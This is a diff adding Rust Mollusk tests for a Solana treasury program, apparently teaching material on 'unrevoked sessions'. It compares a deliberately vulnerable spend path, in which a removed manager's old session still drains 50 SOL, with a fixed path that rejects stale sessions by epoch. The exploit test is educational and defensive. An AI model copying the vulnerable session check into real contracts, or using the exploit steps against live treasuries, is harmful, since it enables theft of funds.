@@ -0,0 +1,349 @@
+/// # Pattern 216: Unrevoked Sessions — Mollusk Exploit Tests
+///
+/// The treasury holds 100 SOL at epoch 0, and its managers are Alice and
+/// Bob. Alice has issued a 50 SOL session to her hot key. In each test the
+/// admin removes Alice, which bumps the epoch to 1.
+///
+/// - Test 1: EXPLOIT — Alice's hot key spends the full 50 SOL through
+///   spend_vulnerable after her removal.
+/// - Test 2: SECURE — spend_secure refuses the session, and Alice can't
+///   issue a new one.
+/// - Test 3: SANITY — the session spends before the removal. Afterwards Bob
+///   reissues a session for his own hot key and it spends.
+use mollusk_svm::{result::Check, Mollusk};
+use solana_sdk::{
+    account::AccountSharedData,
+    instruction::{AccountMeta, Instruction},
+    program_error::ProgramError,
+    pubkey::Pubkey,
+};
+use test_harness::{
+    account_discriminator, executable_account, ix_discriminator, owned_account, Ledger,
+};
+
+const PROGRAM_ID: Pubkey = solana_sdk::pubkey!("3ua2VngNup6QugTSgfHhZjqt2u7bk13TYHzH3c2y3r5A");
+
+const RENT: u64 = 2_000_000;
+const WALLET: u64 = 10_000_000_000;
+const SOL: u64 = 1_000_000_000;
+
+/// The treasury's balance above rent.
+const TREASURY: u64 = 100 * SOL;
+/// Alice's session limit.
+const LIMIT: u64 = 50 * SOL;
+/// Space for a Config with `MAX_MANAGERS` (4) managers:
+/// 8 disc + 32 admin + 4 + 32 × 4 managers + 8 epoch + 1 bump.
+const CONFIG_SPACE: usize = 181;
+
+// Error codes
+const STALE_SESSION: u32 = 6000;
+const NOT_MANAGER: u32 = 6001;
+
+// ---------------------------------------------------------------------------
+// Helpers
+// ---------------------------------------------------------------------------
+
+/// Serialize a Config account, zero-padded to CONFIG_SPACE:
+///   [8 disc][32 admin][4 len][32 × len managers][8 epoch][1 bump]
+fn serialize_config(admin: &Pubkey, managers: &[Pubkey], epoch: u64, bump: u8) -> Vec<u8> {
+    let mut data = Vec::with_capacity(CONFIG_SPACE);
+    data.extend_from_slice(&account_discriminator("Config"));
+    data.extend_from_slice(admin.as_ref());
+    data.extend_from_slice(&(managers.len() as u32).to_le_bytes());
+    for manager in managers {
+        data.extend_from_slice(manager.as_ref());
+    }
+    data.extend_from_slice(&epoch.to_le_bytes());
+    data.push(bump);
+    data.resize(CONFIG_SPACE, 0);
+    data
+}
+
+/// Serialize a Session account:
+///   [8 disc][32 config][32 issuer][32 holder][8 epoch][8 remaining][1 bump]
+fn serialize_session(
+    config: &Pubkey,
+    issuer: &Pubkey,
+    holder: &Pubkey,
+    epoch: u64,
+    remaining: u64,
+    bump: u8,
+) -> Vec<u8> {
+    let mut data = Vec::with_capacity(121);
+    data.extend_from_slice(&account_discriminator("Session"));
+    data.extend_from_slice(config.as_ref());
+    data.extend_from_slice(issuer.as_ref());
+    data.extend_from_slice(holder.as_ref());
+    data.extend_from_slice(&epoch.to_le_bytes());
+    data.extend_from_slice(&remaining.to_le_bytes());
+    data.push(bump);
+    data
+}
+
+fn system_account() -> AccountSharedData {
+    AccountSharedData::new(WALLET, 0, &solana_sdk::system_program::ID)
+}
+
+fn new_mollusk() -> Mollusk {
+    Mollusk::new(&PROGRAM_ID, "unrevoked_sessions")
+}
+
+/// A manager and the hot key they issue sessions to.
+struct Manager {
+    key: Pubkey,
+    hot: Pubkey,
+}
+
+impl Manager {
+    fn new() -> Self {
+        Self {
+            key: Pubkey::new_unique(),
+            hot: Pubkey::new_unique(),
+        }
+    }
+}
+
+struct Setup {
+    mollusk: Mollusk,
+    config: Pubkey,
+    admin: Pubkey,
+    alice: Manager,
+    bob: Manager,
+    ledger: Ledger,
+}
+
+impl Setup {
+    fn new() -> Self {
+        let mollusk = new_mollusk();
+        let (config, config_bump) = Pubkey::find_program_address(&[b"config"], &PROGRAM_ID);
+        let admin = Pubkey::new_unique();
+        let alice = Manager::new();
+        let bob = Manager::new();
+
+        let mut s = Self {
+            mollusk,
+            config,
+            admin,
+            alice,
+            bob,
+            ledger: Ledger::default(),
+        };
+        let (alice_session, alice_bump) = s.session(&s.alice.hot, 0);
+        s.ledger = Ledger::new(vec![
+            (
+                config,
+                owned_account(
+                    &serialize_config(&admin, &[s.alice.key, s.bob.key], 0, config_bump),
+                    RENT + TREASURY,
+                    &PROGRAM_ID,
+                ),
+            ),
+            (
+                alice_session,
+                owned_account(
+                    &serialize_session(&config, &s.alice.key, &s.alice.hot, 0, LIMIT, alice_bump),
+                    RENT,
+                    &PROGRAM_ID,
+                ),
+            ),
+            (admin, system_account()),
+            (
+                solana_sdk::system_program::ID,
+                executable_account(&solana_sdk::native_loader::id()),
+            ),
+        ]);
+        for manager in [&s.alice, &s.bob] {
+            // Sessions issued after the removal, at epoch 1
+            let (reissued, _) = s.session(&manager.hot, 1);
+            s.ledger.extend([
+                (manager.key, system_account()),
+                (manager.hot, system_account()),
+                (reissued, AccountSharedData::default()),
+            ]);
+        }
+        s
+    }
+
+    /// The session PDA for `holder` issued at `epoch`.
+    fn session(&self, holder: &Pubkey, epoch: u64) -> (Pubkey, u8) {
+        Pubkey::find_program_address(
+            &[
+                b"session",
+                self.config.as_ref(),
+                holder.as_ref(),
+                &epoch.to_le_bytes(),
+            ],
+            &PROGRAM_ID,
+        )
+    }
+
+    fn session_data(&self, issuer: &Manager, epoch: u64, remaining: u64) -> Vec<u8> {
+        let (_, bump) = self.session(&issuer.hot, epoch);
+        serialize_session(
+            &self.config,
+            &issuer.key,
+            &issuer.hot,
+            epoch,
+            remaining,
+            bump,
+        )
+    }
+
+    /// Admin: remove_manager(Alice).
+    fn remove_alice(&self) -> Instruction {
+        let mut data = ix_discriminator("remove_manager").to_vec();
+        data.extend_from_slice(self.alice.key.as_ref());
+        Instruction::new_with_bytes(
+            PROGRAM_ID,
+            &data,
+            vec![
+                AccountMeta::new(self.config, false),
+                AccountMeta::new_readonly(self.admin, true),
+            ],
+        )
+    }
+
+    /// `manager`: issue_session(manager.hot, limit) at `epoch`.
+    fn issue(&self, manager: &Manager, epoch: u64, limit: u64) -> Instruction {
+        let (session, _) = self.session(&manager.hot, epoch);
+        let mut data = ix_discriminator("issue_session").to_vec();
+        data.extend_from_slice(manager.hot.as_ref());
+        data.extend_from_slice(&limit.to_le_bytes());
+        Instruction::new_with_bytes(
+            PROGRAM_ID,
+            &data,
+            vec![
+                AccountMeta::new_readonly(self.config, false),
+                AccountMeta::new(session, false),
+                AccountMeta::new(manager.key, true),
+                AccountMeta::new_readonly(solana_sdk::system_program::ID, false),
+            ],
+        )
+    }
+
+    /// spend_*(amount) by `manager`'s hot key, with its session from `epoch`.
+    fn spend(&self, name: &str, manager: &Manager, epoch: u64, amount: u64) -> Instruction {
+        let (session, _) = self.session(&manager.hot, epoch);
+        let mut data = ix_discriminator(name).to_vec();
+        data.extend_from_slice(&amount.to_le_bytes());
+        Instruction::new_with_bytes(
+            PROGRAM_ID,
+            &data,
+            vec![
+                AccountMeta::new(self.config, false),
+                AccountMeta::new(session, false),
+                AccountMeta::new(manager.hot, true),
+            ],
+        )
+    }
+}
+
+// ---------------------------------------------------------------------------
+// Tests
+// ---------------------------------------------------------------------------
+
+#[test]
+fn exploit_removed_manager_session_spends_vulnerable() {
+    // -----------------------------------------------------------------------
+    // EXPLOIT:
+    //   1. Admin: remove_manager(Alice)
+    //   2. Alice's hot key: spend_vulnerable(50 SOL) with her epoch 0 session
+    //
+    // Expected: both SUCCEED. Alice is gone from the config, but her hot key
+    //           takes 50 SOL from the treasury.
+    // -----------------------------------------------------------------------
+    let mut s = Setup::new();
+    let (config, alice_hot) = (s.config, s.alice.hot);
+    let (alice_session, _) = s.session(&s.alice.hot, 0);
+
+    let ix = s.remove_alice();
+    s.ledger.step(&s.mollusk, &ix, &[Check::success()]);
+
+    let ix = s.spend("spend_vulnerable", &s.alice, 0, LIMIT);
+    let spent = s.session_data(&s.alice, 0, 0);
+    s.ledger.step(
+        &s.mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&config)
+                .lamports(RENT + TREASURY - LIMIT)
+                .build(),
+            Check::account(&alice_hot).lamports(WALLET + LIMIT).build(),
+            Check::account(&alice_session).data(&spent).build(),
+        ],
+    );
+}
+
+#[test]
+fn secure_removal_revokes_sessions() {
+    // -----------------------------------------------------------------------
+    // SECURE:
+    //   1. Admin: remove_manager(Alice)
+    //   2. Alice's hot key: spend_secure(50 SOL) with her epoch 0 session
+    //   3. Alice: issue_session(her hot key, 50 SOL) at epoch 1
+    //
+    // Expected: step 2 FAILS with StaleSession (6000): the session is from
+    //           epoch 0 and the config is at epoch 1. Step 3 FAILS with
+    //           NotManager (6001).
+    // -----------------------------------------------------------------------
+    let mut s = Setup::new();
+
+    let ix = s.remove_alice();
+    s.ledger.step(&s.mollusk, &ix, &[Check::success()]);
+
+    let ix = s.spend("spend_secure", &s.alice, 0, LIMIT);
+    s.ledger.step(&s.mollusk, &ix, &[Check::err(ProgramError::Custom(STALE_SESSION))]);
+
+    let ix = s.issue(&s.alice, 1, LIMIT);
+    s.ledger.step(&s.mollusk, &ix, &[Check::err(ProgramError::Custom(NOT_MANAGER))]);
+}
+
+#[test]
+fn sanity_reissued_session_spends_secure() {
+    // -----------------------------------------------------------------------
+    // SANITY:
+    //   1. Alice's hot key: spend_secure(10 SOL) before the removal
+    //   2. Admin: remove_manager(Alice)
+    //   3. Bob: issue_session(his hot key, 10 SOL) at epoch 1
+    //   4. Bob's hot key: spend_secure(10 SOL) with the new session
+    //
+    // Expected: all SUCCEED. A session spends while its epoch is current,
+    //           and a manager who stays reissues after the bump.
+    // -----------------------------------------------------------------------
+    let mut s = Setup::new();
+    let (config, bob_hot) = (s.config, s.bob.hot);
+    let (bob_session, _) = s.session(&s.bob.hot, 1);
+
+    let ix = s.spend("spend_secure", &s.alice, 0, 10 * SOL);
+    s.ledger.step(&s.mollusk, &ix, &[Check::success()]);
+
+    let ix = s.remove_alice();
+    s.ledger.step(&s.mollusk, &ix, &[Check::success()]);
+
+    let ix = s.issue(&s.bob, 1, 10 * SOL);
+    let issued = s.session_data(&s.bob, 1, 10 * SOL);
+    s.ledger.step(
+        &s.mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&bob_session).data(&issued).build(),
+        ],
+    );
+
+    let ix = s.spend("spend_secure", &s.bob, 1, 10 * SOL);
+    let spent = s.session_data(&s.bob, 1, 0);
+    s.ledger.step(
+        &s.mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&config)
+                .lamports(RENT + TREASURY - 20 * SOL)
+                .build(),
+            Check::account(&bob_hot).lamports(WALLET + 10 * SOL).build(),
+            Check::account(&bob_session).data(&spent).build(),
+        ],
+    );
+}